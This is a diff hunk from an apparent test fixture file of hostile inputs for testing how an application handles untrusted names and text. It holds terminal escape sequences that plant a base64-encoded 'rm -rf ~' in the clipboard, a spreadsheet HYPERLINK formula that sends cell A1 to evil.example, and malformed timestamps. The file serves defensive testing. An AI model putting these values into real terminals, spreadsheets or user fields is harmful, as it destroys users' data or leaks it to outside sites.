@@ -11,6 +11,8 @@ ESCAPES = (
     "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4K\x07\x1bP+q544e\x1b\\\x9b2J"
     "[bold red]markup[/] [@click=app.quit]q[/]"
 )
+# A member's display name that a spreadsheet would run: it sends cell A1 to another site.
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
 # Moments no time zone can show (the Go zero time with an offset), and the far future.
 BAD_TIMES = ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "not a time")
 
